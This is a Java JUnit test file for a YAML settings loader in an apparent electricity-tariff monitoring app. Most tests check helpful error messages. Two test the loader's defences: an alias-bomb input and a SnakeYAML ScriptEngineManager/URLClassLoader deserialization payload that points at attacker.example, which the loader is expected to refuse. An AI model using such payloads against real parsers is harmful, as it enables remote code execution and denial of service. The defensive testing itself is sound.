package io.kilowatch.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SettingsLoaderErrorsTest {

  @TempDir Path dir;

  private Path file(String yaml) throws IOException {
    return Files.writeString(dir.resolve("kilowatch.yaml"), yaml);
  }

  private static ConfigException failure(ConfigSources sources) {
    return org.junit.jupiter.api.Assertions.assertThrows(
        ConfigException.class, () -> new SettingsLoader(Map.of()).load(sources));
  }

  private ConfigProblem onlyProblem(String yaml) throws IOException {
    ConfigException failure = failure(ConfigSources.none().withKilowatchFile(file(yaml)));
    assertThat(failure.problems()).hasSize(1);
    return failure.problems().get(0);
  }

  private String fileName() {
    return dir.resolve("kilowatch.yaml").toString();
  }

  @Test
  void load_whenKeyIsMisspelled_suggestsClosestKey() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  prot: 9090\n");

    assertThat(problem.source()).isEqualTo(fileName() + ":2:3");
    assertThat(problem.keyPath()).isEqualTo("http.prot");
    assertThat(problem.value()).isEqualTo("9090");
    assertThat(problem.message()).isEqualTo("unknown key; did you mean 'http.port'?");
  }

  @Test
  void load_whenSectionIsMisspelled_suggestsClosestSection() throws IOException {
    ConfigProblem problem = onlyProblem("veiws:\n  price:\n    interval: 5m\n");

    assertThat(problem.keyPath()).isEqualTo("veiws");
    assertThat(problem.message()).contains("did you mean 'views'?");
  }

  @Test
  void load_whenKeyIsNothingLikeAnyKey_listsValidKeysOfItsSection() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  compression: true\n");

    assertThat(problem.message())
        .isEqualTo("unknown key; valid keys here: host, port, access-token, cors-origins");
  }

  @Test
  void load_whenKeyIsDotted_explainsNesting() throws IOException {
    ConfigProblem problem = onlyProblem("http.port: 9090\n");

    assertThat(problem.keyPath()).isEqualTo("http.port");
    assertThat(problem.message())
        .isEqualTo(
            "unknown key; dotted keys are not expanded, nest them (http: then port:, one per line)");
  }

  @Test
  void load_whenValueHasWrongType_namesFileKeyAndValue() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  host: 127.0.0.1\n  port: eighty\n");

    assertThat(problem.source()).isEqualTo(fileName() + ":3:3");
    assertThat(problem.keyPath()).isEqualTo("http.port");
    assertThat(problem.value()).isEqualTo("eighty");
    assertThat(problem.message()).isEqualTo("is not a whole number");
    assertThat(problem)
        .hasToString(fileName() + ":3:3: http.port: is not a whole number (value: 'eighty')");
  }

  @Test
  void load_whenMappingGivenForSingleValue_reportsWrongType() throws IOException {
    ConfigProblem problem = onlyProblem("pse:\n  retries: {count: 3}\n");

    assertThat(problem.keyPath()).isEqualTo("pse.retries");
    assertThat(problem.value()).isEmpty();
    assertThat(problem.message()).isEqualTo("expected a whole number, found a mapping");
  }

  @Test
  void load_whenSectionIsGivenAsValue_reportsExpectedKeys() throws IOException {
    ConfigProblem problem = onlyProblem("http: 8080\n");

    assertThat(problem.keyPath()).isEqualTo("http");
    assertThat(problem.message()).contains("is a section").contains("port");
  }

  @Test
  void load_whenDurationIsNegative_reportsError() throws IOException {
    ConfigProblem problem = onlyProblem("views:\n  price:\n    interval: -5m\n");

    assertThat(problem.source()).isEqualTo(fileName() + ":3:5");
    assertThat(problem.keyPath()).isEqualTo("views.price.interval");
    assertThat(problem.value()).isEqualTo("-5m");
    assertThat(problem.message()).startsWith("must not be negative");
  }

  @Test
  void load_whenDurationHasNoUnit_suggestsUnits() throws IOException {
    ConfigProblem problem = onlyProblem("pse:\n  call-timeout: 30\n");

    assertThat(problem.message()).contains("has no unit").contains("30s");
  }

  @Test
  void load_whenYamlLineIsMalformed_reportsLineAndColumn() throws IOException {
    ConfigProblem problem =
        onlyProblem("http:\n  port: 8080\n  host: a: b\nlogging:\n  level: INFO\n");

    assertThat(problem.source()).isEqualTo(fileName() + ":3:10");
    assertThat(problem.keyPath()).isEqualTo("http.host");
    assertThat(problem.value()).isEqualTo("host: a: b");
    assertThat(problem.message())
        .contains("does not parse")
        .contains("mapping values are not allowed");
  }

  @Test
  void load_whenFlowListIsNotClosed_reportsWhereParsingStopped() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  cors-origins: [https://a.example.org\n");

    assertThat(problem.source()).startsWith(fileName() + ":");
    assertThat(problem.message()).contains("does not parse").contains("flow sequence");
  }

  @Test
  void load_whenAliasesExplode_refusesWithoutExpandingThem() throws IOException {
    StringBuilder bomb =
        new StringBuilder("lol0: &lol0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int level = 1; level <= 9; level++) {
      bomb.append("lol").append(level).append(": &lol").append(level).append(" [");
      for (int i = 0; i < 9; i++) {
        bomb.append(i == 0 ? "" : ", ").append("*lol").append(level - 1);
      }
      bomb.append("]\n");
    }

    ConfigProblem problem = onlyProblem(bomb.toString());

    assertThat(problem.source()).startsWith(fileName() + ":");
    assertThat(problem.keyPath()).startsWith("lol");
    assertThat(problem.value()).isEqualTo("*alias");
    assertThat(problem.message()).contains("alias bomb");
  }

  @Test
  void load_whenAliasesExceedSnakeYamlLimit_refusesWholeFile() throws IOException {
    StringBuilder many = new StringBuilder("base: &b [1]\nlist:\n");
    for (int i = 0; i < 150; i++) {
      many.append("  - *b\n");
    }

    ConfigProblem problem = onlyProblem(many.toString());

    assertThat(problem.source()).isEqualTo(fileName());
    assertThat(problem.keyPath()).isEqualTo("(document)");
    assertThat(problem.message()).contains("too many aliases");
  }

  @Test
  void load_whenAliasIsRecursive_refusesIt() throws IOException {
    ConfigProblem problem = onlyProblem("a: &a [1, *a]\n");

    assertThat(problem.message()).contains("refers to a mapping or list that contains it");
  }

  @Test
  void load_whenFileIsFiftyMegabytes_refusesItUnread() throws IOException {
    Path huge = dir.resolve("huge.yaml");
    Files.writeString(huge, "http:\n  port: 8080\n# padding follows\n");
    try (RandomAccessFile out = new RandomAccessFile(huge.toFile(), "rw")) {
      out.setLength(50L * 1024 * 1024);
    }

    ConfigException failure = failure(ConfigSources.none().withKilowatchFile(huge));

    assertThat(failure.problems())
        .singleElement()
        .satisfies(
            p -> {
              assertThat(p.source()).isEqualTo(huge.toString());
              assertThat(p.keyPath()).isEqualTo("(document)");
              assertThat(p.value()).isEqualTo("52428800 bytes");
              assertThat(p.message()).contains("larger than 1048576 bytes");
            });
  }

  @Test
  void load_whenJavaTypeTagIsUsed_refusesIt() throws IOException {
    ConfigProblem problem =
        onlyProblem(
            "pse:\n  base-url: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://attacker.example/\"]]]]\n");

    assertThat(problem.source()).isEqualTo(fileName() + ":2:13");
    assertThat(problem.keyPath()).isEqualTo("pse.base-url");
    assertThat(problem.value()).startsWith("base-url: !!javax.script.ScriptEngineManager");
    assertThat(problem.message())
        .isEqualTo(
            "the tag !!javax.script.ScriptEngineManager is not allowed; write a plain value"
                + " without a tag");
  }

  @Test
  void load_whenLocalTagIsUsed_refusesIt() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  host: !local 127.0.0.1\n");

    assertThat(problem.keyPath()).isEqualTo("http.host");
    assertThat(problem.message()).contains("the tag !local is not allowed");
  }

  @Test
  void load_whenBinaryTagIsUsed_refusesIt() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  host: !!binary aGk=\n");

    assertThat(problem.message()).contains("the tag !!binary is not allowed");
  }

  @Test
  void load_whenKeyIsRepeated_reportsDuplicate() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  port: 8080\n  port: 9090\n");

    assertThat(problem.source()).isEqualTo(fileName() + ":3:3");
    assertThat(problem.value()).isEqualTo("9090");
    assertThat(problem.message()).isEqualTo("duplicate key; it was already set on line 2");
  }

  @Test
  void load_whenMergeKeyIsUsed_refusesIt() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  <<: {port: 9090}\n");

    assertThat(problem.message()).contains("merge keys (<<) are not supported");
  }

  @Test
  void load_whenFileIsNotAMapping_saysWhatIsExpected() throws IOException {
    ConfigProblem problem = onlyProblem("- http\n- port\n");

    assertThat(problem.keyPath()).isEqualTo("(document)");
    assertThat(problem.message()).contains("must be a mapping");
  }

  @Test
  void load_whenFileIsMissing_namesIt() {
    Path missing = dir.resolve("nowhere.yaml");

    ConfigException failure = failure(ConfigSources.none().withKilowatchFile(missing));

    assertThat(failure.problems())
        .singleElement()
        .satisfies(
            p -> {
              assertThat(p.source()).isEqualTo(missing.toString());
              assertThat(p.message()).isEqualTo("the file does not exist");
            });
  }

  @Test
  void load_whenFileIsNotUtf8_saysSo() throws IOException {
    Path latin1 = dir.resolve("latin1.yaml");
    Files.write(
        latin1, "http:\n  host: sk\u0142adnik\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));

    ConfigException failure = failure(ConfigSources.none().withKilowatchFile(latin1));

    assertThat(failure.problems())
        .singleElement()
        .satisfies(p -> assertThat(p.message()).contains("not UTF-8"));
  }

  @Test
  void load_whenFileIsEmpty_returnsDefaults() throws IOException {
    LoadedSettings loaded =
        new SettingsLoader(Map.of())
            .load(ConfigSources.none().withKilowatchFile(file("# nothing\n")));

    assertThat(loaded.settings()).isEqualTo(Settings.defaults());
  }

  @Test
  void load_whenSeveralThingsAreWrong_reportsAllAtOnce() throws IOException {
    Path yaml =
        file(
            """
            http:
              prot: 9090
              port: eighty
            views:
              price:
                interval: -5m
            tariff:
              type: G15
            """);

    ConfigException failure =
        failure(ConfigSources.none().withKilowatchFile(yaml).withOverride("http.hots", "x"));

    assertThat(failure.problems())
        .extracting(ConfigProblem::keyPath)
        .containsExactlyInAnyOrder(
            "http.prot", "http.port", "views.price.interval", "tariff.type", "http.hots");
    assertThat(failure.getMessage())
        .startsWith("5 problems in the configuration:")
        .contains("http.prot: unknown key; did you mean 'http.port'?")
        .contains("http.port: is not a whole number (value: 'eighty')")
        .contains("views.price.interval: must not be negative")
        .contains(
            "tariff.type: is not a tariff; use one of G11, G12, G12as, G12w, G13, G13s, G14dynamic")
        .contains("override: http.hots: unknown key; did you mean 'http.host'?");
  }

  @Test
  void load_whenEnvironmentValueIsBad_namesVariable() {
    ConfigException failure =
        org.junit.jupiter.api.Assertions.assertThrows(
            ConfigException.class,
            () ->
                new SettingsLoader(Map.of("KILOWATCH_PSE_RETRIES", "many"))
                    .load(ConfigSources.none()));

    assertThat(failure.problems())
        .singleElement()
        .satisfies(
            p -> {
              assertThat(p.source()).isEqualTo("environment variable KILOWATCH_PSE_RETRIES");
              assertThat(p.keyPath()).isEqualTo("pse.retries");
              assertThat(p.value()).isEqualTo("many");
            });
  }

  @Test
  void load_whenAccessTokenIsInvalid_masksItInTheMessage() throws IOException {
    ConfigException failure =
        failure(
            ConfigSources.none()
                .withKilowatchFile(file("http:\n  access-token: \"top secret\"\n")));

    assertThat(failure.problems())
        .singleElement()
        .satisfies(
            p -> {
              assertThat(p.keyPath()).isEqualTo("http.access-token");
              assertThat(p.value()).isEqualTo("****");
            });
    assertThat(failure.getMessage()).doesNotContain("top secret");
  }

  @Test
  void load_whenSecretKeyIsMisspelled_suggestsItAndMasksValue() throws IOException {
    ConfigException failure =
        failure(
            ConfigSources.none().withKilowatchFile(file("http:\n  acess-token: hunter2hunter2\n")));

    assertThat(failure.problems())
        .singleElement()
        .satisfies(
            p -> {
              assertThat(p.value()).isEqualTo("****");
              assertThat(p.message()).contains("did you mean 'http.access-token'?");
            });
    assertThat(failure.getMessage()).doesNotContain("hunter2");
  }

  @Test
  void load_whenExpireAfterIsShorterThanRefreshAfter_reportsBoth() throws IOException {
    ConfigProblem problem =
        onlyProblem("views:\n  metrics:\n    refresh-after: 5m\n    expire-after: 3m\n");

    assertThat(problem.source()).isEqualTo(fileName() + ":4:5");
    assertThat(problem.keyPath()).isEqualTo("views.metrics.expire-after");
    assertThat(problem.value()).isEqualTo("3m");
    assertThat(problem.message())
        .isEqualTo("must not be shorter than views.metrics.refresh-after (5m)");
  }

  @Test
  void load_whenPortIsOutOfRange_reportsErrorRatherThanClamping() throws IOException {
    ConfigProblem problem = onlyProblem("http:\n  port: 70000\n");

    assertThat(problem.message()).isEqualTo("must be 0 to 65535");
  }

  @Test
  void load_whenRateTablesHaveProblems_reportsEachAtItsLine() throws IOException {
    Path yaml =
        file(
            """
            tariff:
              rate-tables:
                G12x:
                  - valid-from: 2024-01-01
                    rates: {all-hours: 0.3}
                G11:
                  - valid-form: 2024-01-01
                    peak-hours: [{from: 7, to: 13}]
                    rates: {all-hour: 0.3}
                G12:
                  - valid-from: 2024-13-01
                    peak-hours: [{from: 7, to: 25}]
                    rates: {peak: -0.1, off-peak: 0.07}
            """);

    ConfigException failure = failure(ConfigSources.none().withKilowatchFile(yaml));

    assertThat(failure.problems())
        .extracting(p -> p.keyPath() + " | " + p.message())
        .containsExactlyInAnyOrder(
            "tariff.rate-tables.G12x | unknown tariff; did you mean 'G12'?",
            "tariff.rate-tables.G11[0].valid-form | unknown key; did you mean 'valid-from'?",
            "tariff.rate-tables.G11[0] | a rate table needs valid-from, the first day it applies"
                + " (2025-01-01)",
            "tariff.rate-tables.G11[0].rates.all-hour | is not a rate of G11; did you mean"
                + " 'all-hours'?",
            "tariff.rate-tables.G12[0].valid-from | is not a date such as 2025-01-01",
            "tariff.rate-tables.G12[0].peak-hours[0].to | an hour must be 0 to 24",
            "tariff.rate-tables.G12[0].rates.peak | must be 0 to 100 (PLN/kWh net)");
  }

  @Test
  void load_whenRateTableFitsNotItsTariff_reportsMissingRatesAndPeakHours() throws IOException {
    Path yaml =
        file(
            """
            tariff:
              rate-tables:
                G11:
                  - valid-from: 2024-01-01
                    peak-hours: [{from: 7, to: 13}]
                    rates: {all-hours: 0.3}
                G12w:
                  - valid-from: 2025-01-01
                    rates: {peak: 0.3}
                G13:
                  - valid-from: 2025-01-01
                    rates: {all-hours: 0.1}
                  - valid-from: 2024-01-01
                    rates: {all-hours: 0.1}
            """);

    ConfigException failure = failure(ConfigSources.none().withKilowatchFile(yaml));

    assertThat(failure.problems())
        .extracting(ConfigProblem::message)
        .containsExactlyInAnyOrder(
            "G11 takes no peak-hours (only G12, G12as and G12w do)",
            "G12w needs the rates peak, off-peak (or all-hours for those not named); missing off-peak",
            "G12w needs peak-hours, e.g. [{from: 7, to: 22}]",
            "G13 rate tables must be in ascending order of valid-from without repeats, but"
                + " 2024-01-01 follows 2025-01-01");
  }

  @Test
  void load_whenRateTablesComeFromEnvironment_saysYamlOnly() {
    ConfigException failure =
        org.junit.jupiter.api.Assertions.assertThrows(
            ConfigException.class,
            () ->
                new SettingsLoader(Map.of("KILOWATCH_TARIFF_RATE_TABLES", "G11=0.3"))
                    .load(ConfigSources.none()));

    assertThat(failure.problems())
        .singleElement()
        .satisfies(p -> assertThat(p.message()).contains("only be set in a YAML file"));
  }

  @Test
  void load_whenPathStartsWithTilde_asksForFullPath() throws IOException {
    ConfigProblem problem = onlyProblem("paths:\n  coordinator-root: ~/goodwe\n");

    assertThat(problem.message()).contains("'~'");
  }

  @Test
  void problems_areListedOnePerLine() {
    ConfigException failure =
        new ConfigException(
            List.of(
                new ConfigProblem("a.yaml:1:1", "x", "1", "first"),
                new ConfigProblem("a.yaml:2:1", "y", "", "second")));

    assertThat(failure.getMessage().lines())
        .containsExactly(
            "2 problems in the configuration:",
            "  - a.yaml:1:1: x: first (value: '1')",
            "  - a.yaml:2:1: y: second");
  }
}
